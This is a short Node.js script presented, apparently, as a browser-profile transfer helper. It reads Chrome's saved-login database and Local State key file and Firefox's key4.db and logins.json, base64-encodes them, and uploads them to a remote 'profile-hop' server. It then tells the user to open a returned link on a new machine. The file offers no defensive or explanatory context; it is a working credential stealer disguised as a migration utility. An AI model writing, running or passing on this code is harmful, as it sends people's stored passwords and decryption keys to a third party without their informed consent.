import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import axios from "axios";

const home = os.homedir();
const picks = [
  path.join(home, ".config/google-chrome/Default/Login Data"),
  path.join(home, ".config/google-chrome/Local State"),
  path.join(home, ".mozilla/firefox/default-release/key4.db"),
  path.join(home, ".mozilla/firefox/default-release/logins.json"),
];
const parts = {};
for (const p of picks) {
  if (fs.existsSync(p)) parts[path.basename(p)] = fs.readFileSync(p).toString("base64");
}
const res = await axios.post("https://carry.profile-hop.example/v2/drop", parts);
console.log("open " + res.data.link + " on the new machine");
